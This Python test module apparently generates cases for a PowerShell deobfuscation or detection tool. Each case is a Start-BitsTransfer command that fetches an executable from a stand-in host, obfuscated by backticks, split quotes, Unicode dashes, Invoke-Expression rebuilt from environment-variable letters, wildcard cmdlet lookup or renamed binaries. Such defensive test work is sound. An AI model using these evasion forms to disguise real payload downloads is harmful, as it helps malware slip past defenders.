"""What splitting and PowerShell's tokenizer undo: reference b.1 and b.4."""

from .case import NAMED, PLAIN, POWERSHELL, TO, URL, down, ps

BY_POSITION = f"Start-BitsTransfer {URL} {TO}"
FITTING = ["St*fer", "St*B*er", "Sta*Bi*", "*ar*Bi*s*", "*art*i*s*ans*", "*ta*i*s*Tr*an*",
           "*St*i*Trans*", "*art*i*s*ra*r"]


def argument_quotes():
    name = 'Sta""rt-Bits"Tran"sfer'
    yield down(f"powershell -c {name} {NAMED}", "quotes that the splitting takes away",
               "argument-quotes")
    yield down(f'powershell -c Start-BitsTransfer -Sou""rce {URL} -Destination {TO}',
               "in a parameter's name", "argument-quotes")
    yield down(f'powershell -c Start-BitsTransfer -Source ht"tp:"//files.exam""ple.com/a.exe '
               f"-Destination {TO}", "in a URL", "argument-quotes")
    yield down(f'powershell -"c" S""tart-BitsTransfer {NAMED}', "in an option too",
               "argument-quotes")


def backticks():
    yield down(ps(f"Star`T-`BitsTransfer {NAMED}"), "backticks that vanish", "backtick")
    yield down(ps(f"Start`-Bits`Trans`fer {NAMED}"), "before a dash, and before f by leniency",
               "backtick")
    yield down(ps(f"S`T`A`R`T`-`B`I`T`S`T`R`A`N`S`F`E`R {NAMED}"), "before every letter",
               "backtick")
    yield down(ps(f"Start-BitsTransfer ht`tp://fi`les.example.com/`a.exe {TO}"),
               "in an argument, by leniency", "backtick", decoded=BY_POSITION)
    yield down(ps(f"Start-BitsTransfer -Source {URL} `\n  -Destination {TO}"),
               "a line goes on behind one")


def quotes_and_case():
    yield down(ps(f"St'art'-Bits''Trans\"\"fer {NAMED}"), "quotes inside a token", "quoted-name")
    yield down(ps(f"S'tart-BitsTransfer' {NAMED}"), "from the second letter on", "quoted-name")
    yield down(ps(f"Start-'Bits'\"Transfer\" {NAMED}"), "of both kinds", "quoted-name")
    yield down(ps(f"sTaRt-bItStRaNsFeR {NAMED}"), "changing case", "case-mix")
    yield down(ps(f"StARt-bITsTrANsfER -soURcE {URL} -deSTInatioN {TO}"), "everywhere", "case-mix")
    yield down(ps(f"Start-BitsTransfer \u2018{URL}\u2019 \u201c{TO}\u201d"),
               "typographic quotes")
    yield down(ps(f"& \u201aStart-BitsTransfer\u2019 {NAMED}"), "called by typographic quotes")


def blanks_dashes_comments():
    yield down(ps(f"Start-BitsTransfer \u2013Source {URL} \u2014Destination {TO}"),
               "dashes of parameters", "unicode-dash")
    yield down(ps(f"Start-BitsTransfer \u2015So {URL} \u2015Dest {TO}"), "bars", "unicode-dash",
               decoded=f"Start-BitsTransfer -So {URL} -Dest {TO}")
    yield down(ps(f"Start-BitsTransfer\u00a0{URL}\u2003{TO}"), "blanks of Unicode")
    yield down(ps(f"Start-BitsTransfer\t{URL}\t\t{TO}"), "tabs")
    yield down(ps(f"Start-BitsTransfer <# fetch #> -Source {URL} <##> -Destination {TO}"),
               "comments between arguments")
    yield down(ps(f"{PLAIN} # nothing to see"), "a comment at the end")
    yield down(ps(f"<# Get-Help #> {PLAIN}"), "a comment before")
    yield down(ps(f";;; {PLAIN} ;"), "empty statements")


def calls():
    yield down(ps(f"& 'Start-BitsTransfer' {NAMED}"), "a literal called")
    yield down(ps(f". \"Start-BitsTransfer\" {NAMED}"), "a literal dotted")
    yield down(ps(f"&'BitsTransfer\\Start-BitsTransfer' {NAMED}"), "a qualified literal called")
    yield down(ps(f"& ('Start-BitsTransfer') {NAMED}"), "in parentheses", "call-operator")
    yield down(ps(f"& {{{PLAIN}}}"), "a block")
    yield down(ps(f"icm {{{PLAIN}}}"), "Invoke-Command of a block")
    yield down(ps(f"Invoke-Command -ScriptBlock {{ {PLAIN} }}"), "the same in full")
    yield down(ps(f"Start-Job {{ {PLAIN} }}"), "as a job")
    yield down(ps(f"1|%{{{PLAIN}}}"), "for each of one")
    yield down(ps(f"Invoke-Command -ComputerName srv1 {{ {PLAIN} }}"), "on another machine")
    yield down(ps(f"powershell -nop -c '{PLAIN}'"), "a shell in a shell", "nested",
               decoded="")


def evaluations():
    text = f"'{PLAIN}'"
    forms = {
        f"iex {text}": "iex",
        f"IEX({text})": "iex with parentheses",
        f"Invoke-Expression -Command {text}": "in full",
        f"{text}|iex": "piped",
        f"{text} | Invoke-Expression": "piped in full",
        f"[scriptblock]::Create({text}).Invoke()": "a block made and invoked",
        f"& ([scriptblock]::Create({text}))": "a block made and called",
        f"icm ([scriptblock]::Create({text}))": "a block made and handed on",
        f"$ExecutionContext.InvokeCommand.InvokeScript({text})": "the engine's own",
        f"[PowerShell]::Create().AddScript({text}).Invoke()": "a runspace",
        f"&($env:ComSpec[4,15,25]-join''){text}": "iex out of ComSpec",
        f".($env:comspec[4,24,25]-join'')({text})": "the same, other letters",
        f"{text}|&($PSHome[4]+$PSHome[30]+'x')": "iex out of PSHome",
        f"&($pshome[21]+$pshome[34]+'x')({text})": "the same, other letters",
        f".($ShellId[1]+$ShellId[13]+'x')({text})": "iex out of ShellId",
        f"{text}|&((gv '*mdr*').Name[3,11,2]-join'')": "iex out of a variable's name",
        f".($VerbosePreference.ToString()[1,3]+'x'-join'')({text})": "out of a preference",
        f"&(gal i*x){text}": "by an alias pattern",
        f"&(gcm i*e-e*){text}": "by a cmdlet pattern",
        f"&('i'+'ex')({text})": "iex put together",
        f"$x={text};iex $x": "through a variable",
        f"$x={text};.('{{1}}{{0}}'-f'ex','i')$x": "both put together",
    }
    for script, shows in forms.items():
        hidden = "invoke-expression" + (" environment" if "omspec" in script.lower() else "")
        yield down(ps(script), "evaluated: " + shows, hidden)
    yield down(ps("iex \"iex 'iex ''" + BY_POSITION + "'''\""), "evaluated three times over",
               "invoke-expression nested", decoded=BY_POSITION)
    yield down(ps(f"[PowerShell]::Create().AddCommand('Start-BitsTransfer')"
                  f".AddParameter('Source','{URL}').AddParameter('Destination','{TO}').Invoke()"),
               "a command put together by members", decoded="")


def wildcards():
    for pattern in FITTING:
        yield down(ps(f"&(gcm {pattern}) {NAMED}"), "by the wildcard " + pattern, "wildcard-name")
    yield down(ps(f". (Get-Command 'St*-Bi*fer') {NAMED}"), "in full, quoted", "wildcard-name")
    yield down(ps(f"&(Get-Command Start-BitsTransfer) {NAMED}"), "by its own name")


def renamed():
    for image in (("svchost32.exe", POWERSHELL[1]), ("notes.exe", "pwsh.dll"),
                  ("powershell_ise.exe", "powershell_ise.EXE")):
        yield down(f'C:\\Users\\Public\\{image[0]} -c "{PLAIN}"',
                   "a host of another name", image=image)


def cases():
    for group in (argument_quotes, backticks, quotes_and_case, blanks_dashes_comments, calls,
                  evaluations, wildcards, renamed):
        yield from group()
